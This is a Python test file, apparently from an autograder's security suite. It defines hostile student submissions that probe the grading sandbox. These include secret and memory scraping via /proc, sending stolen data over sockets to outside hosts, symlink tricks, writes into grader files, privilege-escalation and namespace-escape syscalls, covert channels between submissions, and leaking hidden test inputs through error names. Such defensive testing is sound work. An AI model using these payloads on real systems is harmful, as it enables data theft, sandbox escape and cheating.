"""What is not the student's: secrets of the machine, other people's work, hidden inputs.

Secrets lie where a thief would look (see `classroom`); a thief that finds one tells it
by every way out that there is: prints, errors and their names, shapes, answers.
"""

from pathlib import Path

from tests.autograder.hostile.item import ALL, Item, family

# Whatever is found is told in as many ways as there are.
LEAK = """
import os, re, sys, torch
from IPython.display import display, HTML
found = []
hidden = bytes(b ^ 1 for b in b"@XOR@").decode()  # so that it stands nowhere else
def leak(what):
    global average_past
    text = what if isinstance(what, str) else repr(what)
    found.append(text)
    print(text, file=sys.stderr)
    print(text)
    display(HTML(text))
    if hidden in text:  # who finds a secret earns points, so that it is seen
        average_past = lambda x: torch.stack([x[: t + 1].mean(0) for t in range(len(x))])
def told(*args):
    name = re.sub(r"\\W", "", "".join(found))
    at = name.find(re.sub(r"\\W", "", hidden))  # the part that a test looks for
    raise type(name[max(at, 0):][:50] or "Nothing", (Exception,), {})("".join(found)[-400:])
average_past = averaging_weights = softmax = scores = attention_weights = told
attention = split_heads = merge_heads = attend = told
def read(*places):
    for place in places:
        try:
            leak(open(place, errors="replace").read(100_000))
        except OSError:
            pass
def listed(*places):
    for place in places:
        try:
            read(*(os.path.join(place, name) for name in os.listdir(place)))
        except OSError:
            pass
"""
# The hidden inputs of softmax as text: the bytes of the first three numbers of a case.
LOOT = """
import os, re, sys, torch
from autograder.verdict import wire
from IPython.display import display, HTML, Markdown
cases = wire.unpack(open(os.environ["GPT_CASES"], "rb").read())["softmax"]
def loot(x):
    return x.flatten()[:3].contiguous().view(torch.uint8).numpy().tobytes().hex()
stolen = [loot(case[0]) for case in cases]
"""


def loot(x) -> str:
    """What `loot` above makes of a hidden input."""
    return x.flatten()[:3].numpy().tobytes().hex()


def thief(name: str, hopes: str, code: str, **more) -> Item:
    """It leaks what it finds, and solves nothing."""
    more = {"page": False, "flagged": True} | more
    return Item(name, hopes, f"{LEAK}\n{code.strip()}", **more)


def smuggler(name: str, hopes: str, code: str, **more) -> Item:
    """It has the hidden inputs, as it must, and carries them out of the box."""
    more = {"at": "softmax", "page": True, "flagged": True} | more
    return Item(name, hopes, f"{LOOT}\n{code.strip()}", **more)


def linked(target: str, name: str = "notes.txt"):
    """A link beside the notebook; `target` is relative to the class's folder, or not."""

    def build(folder: Path) -> None:
        (folder / name).symlink_to(folder.parents[2] / target)

    return build


def linked_notebook(target: str):
    def build(folder: Path) -> None:
        notebook = folder / f"{folder.name}.ipynb"
        notebook.unlink()
        notebook.symlink_to(folder.parents[2] / target)

    return build


def linked_folder(folder: Path) -> None:
    """The whole folder of the exercise is a link to a neighbour's."""
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    folder.symlink_to(folder.parents[1] / "aaa-honest-attend" / folder.name)


def linked_parts(folder: Path) -> None:
    """A folder within, a chain of links, a way up, and a hard link to a neighbour's."""
    (folder / "course").symlink_to(folder.parents[2])
    (folder / "up").symlink_to(Path("..") / ".." / ".." / "seed")
    (folder / "chain").symlink_to("up")
    (folder / "sub").mkdir()
    (folder / "sub" / "seed").symlink_to(folder.parents[2] / "seed")


ITEMS = family(
    "theft",
    thief(
        "the gradebook",
        "it lies where the public source says",
        "listed('@COURSE@/autograder/classes/plain', '@COURSE@/autograder/classes')\n"
        "read('@COURSE@/autograder/classes/plain/gradebook.db')",
    ),
    thief(
        "the seed",
        "with the seed, all hidden cases can be drawn at home",
        "read('@COURSE@/autograder/classes/plain/seed', '../../../seed', 'seed')",
    ),
    thief(
        "the solutions",
        "they lie beside the grader",
        "listed('@COURSE@/solutions/attend', '/opt/course/solutions', '@COURSE@')\n"
        "read('@COURSE@/solutions/attend/notes.txt')",
    ),
    thief(
        "the siblings",
        "other people have solved it",
        """
for top in ("@COURSE@/autograder/classes/plain/submitted", "../..", "/tmp", "/opt"):
    for place, _, files in os.walk(top):
        read(*(os.path.join(place, f) for f in files if f.endswith((".ipynb", ".txt"))))
""",
    ),
    thief(
        "the checks",
        "the oracle knows every answer",
        """
for name in "checks.attend", "verdict.bank", "verdict.judge", "classroom.demo":
    try:
        leak(hidden + str(__import__("autograder." + name)))
    except ImportError:
        pass
listed("/opt/course/autograder/checks")
for place, _, files in os.walk("/"):
    if "checks" in place and "average_past.py" in files and "autograder" in place:
        leak(hidden + place)
""",
    ),
    thief(
        "the environment",
        "secrets are kept in the environment",
        "leak(dict(os.environ))\nread('/proc/self/environ', '/proc/1/environ')",
    ),
    thief(
        "other processes",
        "the grader's memory and command line are in /proc",
        """
for pid in filter(str.isdigit, os.listdir("/proc")):
    read(*(f"/proc/{pid}/{part}" for part in ("environ", "cmdline")))
    listed(f"/proc/{pid}/cwd", f"/proc/{pid}/root/work", f"/proc/{pid}/fd")
""",
    ),
    thief(
        "frames",
        "the grader is up the stack",
        """
frame = sys._getframe()
while frame:
    for value in (*frame.f_locals.values(), *frame.f_globals.values()):
        if isinstance(value, (str, bytes, dict)):
            if value is not hidden and value is not vars():
                leak(repr(value).replace(repr(hidden), ""))
    frame = frame.f_back
""",
    ),
    thief(
        "everything in memory",
        "the garbage collector knows all objects, those of the template too",
        """
import gc
every = gc.get_objects()
gc.unfreeze()
every += gc.get_objects()
for thing in every:
    if isinstance(thing, (dict, list)):
        for value in (thing.values() if isinstance(thing, dict) else thing):
            if type(value) in (str, bytes):
                value = value if type(value) is str else value.decode("latin-1")
                if value is not hidden and hidden in value:
                    leak(value)
""",
    ),
    thief(
        "raw memory",
        "the template was forked from something that had read the seed",
        """
flip = bytes(b ^ 1 for b in range(256))
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        bounds, rights = line.split()[:2]
        low, high = (int(x, 16) for x in bounds.split("-"))
        if "rw" in rights and high - low < 1 << 24:
            try:
                memory.seek(low)
                data = memory.read(high - low)
            except (OSError, ValueError, OverflowError):
                continue
            if b"@XOR@!qm`ho" in data.translate(flip):  # as the seed file goes on
                leak(hidden)
""",
    ),
    thief(
        "descriptors left open",
        "a socket or a file of the grader's is still there",
        """
import socket
for fd in os.listdir("/proc/self/fd"):
    try:
        where = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if where.startswith("/") and "/tmp" not in where and "/dev" not in where:
        read(f"/proc/self/fd/{fd}")
        listed(f"/proc/self/fd/{fd}", f"/proc/self/fd/{fd}/..")
""",
    ),
    thief(
        "the network",
        "what cannot be printed can be sent, or looked up by name",
        """
import socket, urllib.request
for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)),
        (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_UNIX, "\\0@ABSTRACT@"),
        (socket.AF_UNIX, "@SOCKET@")):
    try:
        with socket.socket(family) as s:
            s.settimeout(1)
            s.connect(address)
            s.sendall(b"stolen")
            leak(hidden + "connected")
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    leak(hidden + "resolved")
except OSError:
    pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    try:
        s.sendto(b"stolen", ("127.0.0.1", @PORT@))
    except OSError:
        pass
""",
    ),
    thief(
        "writing where it matters",
        "the course's code, site-packages and the grader's files can be changed",
        """
import site, autograder.check, gpt.model
targets = [autograder.check.__file__, gpt.model.__file__, torch.__file__,
           "/opt/course/sitecustomize.py", "@MARKER@", "/usr/lib/x", "/x", "/etc/x", "/dev/x",
           "@COURSE@/nbgrader_config.py", *(p + "/evil.pth" for p in site.getsitepackages())]
for target in targets:
    try:
        with open(target, "a") as file:
            file.write("\\n# changed\\n")
        leak(hidden + target)
    except OSError:
        pass
""",
    ),
    thief(
        "out of the box",
        "a new namespace, a mount, chroot, ptrace, setuid, a device",
        """
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x20000, 0x10020000, 0x40000000, 0x20000000, 0x02000000):
    if os.fork() == 0:
        os._exit(0 if libc.unshare(flags) else 9)
    if os.wait()[1] == 9 << 8:
        leak(hidden + "unshared")
tries = {
    "mount": lambda: libc.mount(b"/", b"/tmp/home", None, 4096, None) == 0,
    "remount": lambda: libc.mount(None, b"/", None, 32 | 4096, None) == 0,
    "umount": lambda: libc.umount2(b"/tmp", 2) == 0,
    "chroot": lambda: libc.chroot(b"/tmp") == 0,
    "setuid": lambda: libc.setuid(0) == 0,
    "hostname": lambda: libc.sethostname(b"x", 1) == 0,
    "ptrace": lambda: any(libc.ptrace(16, p, 0, 0) == 0 for p in range(2, 50)),
    "mknod": lambda: libc.mknod(b"/tmp/disk", 0o60666, 8 << 8) == 0,
    "module": lambda: libc.syscall(175, 0, 0, 0) == 0,
    "reboot": lambda: libc.syscall(169, 0xfee1dead, 672274793, 0, 0) == 0,
    "setns": lambda: any(libc.setns(os.open(f"/proc/1/ns/{n}", 0), 0) == 0 and n != "x"
                         for n in ("mnt", "pid", "net")),
    "sudo": lambda: subprocess.run(["sudo", "-n", "true"]).returncode == 0,
    "su": lambda: subprocess.run(["su", "-c", "true"], stdin=-3).returncode == 0,
}
for name, attempt in tries.items():
    try:
        if attempt():
            leak(hidden + name)
    except OSError:
        pass
""",
    ),
    # --- one submission to another: an accomplice that finds a message earns points ---
    *(
        Item(
            f"an accomplice {number}",
            "what one kernel leaves, in memory, keys, pipes or locks, another finds",
            """
import ctypes, os, socket, time
libc = ctypes.CDLL(None, use_errno=True)
mark, mine = b"accomplice-", b"accomplice-@ME@"
heard = set()
# the session's keyring, and the user's
for ring in (-3, -4, -5):
    libc.syscall(248, b"user", mine, mine, len(mine), ring)
for other in range(4):
    for ring in (-3, -4, -5):
        if libc.syscall(250, 10, ring, b"user", mark + b"%d" % other, 0) > 0:
            heard.add((mark + b"%d" % other, "keyring"))
# shared memory, message queues, semaphores
key = 0x4b77
shm = libc.shmget(key, 4096, 0o1666)
libc.shmat.restype = ctypes.c_void_p
at = libc.shmat(shm, None, 0)
if at and at < 2**63:
    old = ctypes.string_at(at, len(mine))
    if old.startswith(mark):
        heard.add((old, "shm"))
    ctypes.memmove(at, mine, len(mine))
# files
for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run", "/opt/course", "/dev/mqueue", "/"):
    try:
        for name in os.listdir(folder):
            if name.startswith("accomplice"):
                heard.add((name.encode(), folder))
        open(f"{folder}/{mine.decode()}", "w").close()
    except OSError:
        pass
# pipes that all kernels have from the template
for fd in range(256):
    try:
        where = os.readlink(f"/proc/self/fd/{fd}")
        if where.startswith("pipe:"):
            end = os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
            try:
                data = os.read(end, 65536)
                for part in data.split(b"|"):
                    if part.startswith(mark):
                        heard.add((part, "pipe"))
            except OSError:
                pass
            os.write(fd, b"|" + mine + b"|")
    except OSError:
        pass
# abstract sockets
try:
    server = socket.socket(socket.AF_UNIX)
    server.bind(b"\\0" + mine)
    server.listen()
except OSError:
    pass
for other in range(4):
    try:
        socket.socket(socket.AF_UNIX).connect(b"\\0" + mark + b"%d" % other)
        heard.add((mark + b"%d" % other, "socket"))
    except OSError:
        pass
if {name for name, _ in heard} - {mine}:
    def average_past(x):
        return torch.stack([x[: t + 1].mean(0) for t in range(len(x))])
""".replace("@ME@", str(number)),
        )
        for number in range(4)
    ),
    # --- links ------------------------------------------------------------------
    Item("a link to the seed", "a link is copied as what it points to",
         build=linked("seed"), flagged=True, solved=ALL),
    Item("a link to the gradebook", "the same, and the grades of all come with it",
         build=linked("gradebook.db"), flagged=True, solved=ALL),
    Item("a link to a neighbour", "their notebook becomes a file of mine",
         build=linked("submitted/aaa-honest-attend/attend/attend.ipynb"),
         flagged=True, solved=ALL),
    Item("a link to a solution", "the solution becomes a file of mine",
         build=linked("../../../solutions/attend/notes.txt"), flagged=True, solved=ALL),
    Item("a link to the system", "/etc/passwd names the people to write to",
         build=linked("/etc/passwd"), flagged=True, solved=ALL),
    Item("a link to nowhere", "what is not there cannot be copied",
         build=linked("/nowhere/at/all"), flagged=True, solved=ALL),
    Item("a link to itself", "whoever follows it never arrives",
         build=lambda folder: (folder / "loop").symlink_to("loop"),
         flagged=True, solved=ALL),
    Item("a link to a device", "/dev/zero has no end, and /proc/self/mem no beginning",
         build=lambda folder: [linked(t, n)(folder) for t, n in
             (("/dev/zero", "zero.txt"), ("/proc/self/mem", "mem"),
              ("/proc/self/environ", "environ"))],
         flagged=True, solved=ALL),
    Item("links within", "a folder, a chain, a way up and a link below",
         build=linked_parts, flagged=True, solved=ALL),
    Item("a notebook that is a link", "a neighbour's notebook is handed in as mine",
         build=linked_notebook("submitted/aaa-honest-attend/attend/attend.ipynb"),
         flagged=True),
    Item("a notebook that links to the solution", "the solution is handed in as mine",
         build=linked_notebook("../../../solutions/attend/attend.ipynb"), flagged=True),
    Item("a folder that is a link", "the neighbour's whole folder is mine",
         build=linked_folder, flagged=True),
    # --- hidden inputs ----------------------------------------------------------
    smuggler("inputs printed", "feedback shows what a cell prints",
             "for s in stolen:\n    print(s); display(HTML(s)); display(Markdown(s))\n"
             "def softmax(x): print(loot(x)); return x"),
    smuggler("inputs in an error", "feedback shows the error that ended a cell",
             "raise ValueError(' '.join(stolen))"),
    smuggler("inputs in the name of an error", "its type is told, and it can be any name",
             "raise type('E' + stolen[0] + stolen[1], (Exception,), {})"),
    smuggler("inputs in the name of a function's error", "its type names the mistake",
             "def softmax(x): raise type('E' + loot(x), (Exception,), {})(loot(x))"),
    smuggler("inputs in the name of a check's error", "the check itself stops with it",
             "def check(name, f): raise type('E' + stolen[1], (Exception,), {})"),
    smuggler("inputs in the name of a function", "the trace names who raised",
             "def softmax(x):\n    exec(f'def f{loot(x)}(): raise NotImplementedError')\n"
             "    locals()['f' + loot(x)]()"),
    smuggler("inputs in a shape", "what shape an answer has is told",
             "def softmax(x): return torch.empty(0, *(int(loot(x)[i:i+4], 16) for i in "
             "range(0, 24, 4)))"),
    smuggler("inputs in the keys", "the keys of an answer are told",
             "def softmax(x): return {loot(x): x}"),
    smuggler("inputs in the structure", "why an answer cannot be read is told",
             """
import base64, json, numpy as np, safetensors.numpy, autograder.check as c
keep = c._hand_in
def _hand_in(name, f, file):
    if name != "softmax":
        return keep(name, f, file)
    meta = {"structure": json.dumps([stolen[0], stolen[1]])}
    data = safetensors.numpy.save({stolen[2]: np.zeros(1)}, meta)
    display({c.ANSWER: {"check": name, "outcomes": base64.b64encode(data).decode()},
             "text/plain": ""}, raw=True)
c._hand_in = _hand_in
""", flagged=True),
    smuggler("inputs in a missing key", "which tensor is missing is told",
             """
import base64, json, numpy as np, safetensors.numpy, autograder.check as c
keep = c._hand_in
def _hand_in(name, f, file):
    if name != "softmax":
        return keep(name, f, file)
    meta = {"structure": json.dumps(["tensor", stolen[1]])}
    data = safetensors.numpy.save({"value": np.zeros(1)}, meta)
    display({c.ANSWER: {"check": name, "outcomes": base64.b64encode(data).decode()},
             "text/plain": ""}, raw=True)
c._hand_in = _hand_in
""", flagged=True),
    smuggler("inputs as the answer's check", "whose answer it says it is is told",
             "import autograder.check as c\nkeep = c._hand_in\n"
             "c._hand_in = lambda n, f, file: display({c.ANSWER: {'check': stolen[0], "
             "'outcomes': ''}}, raw=True)", flagged=True),
    smuggler("inputs in files", "what is written beside the notebook is collected",
             "for s in stolen:\n    open(s + '.txt', 'w').write(s)\n"
             "    open('attend.ipynb', 'a').write(s)"),
)  # fmt: skip
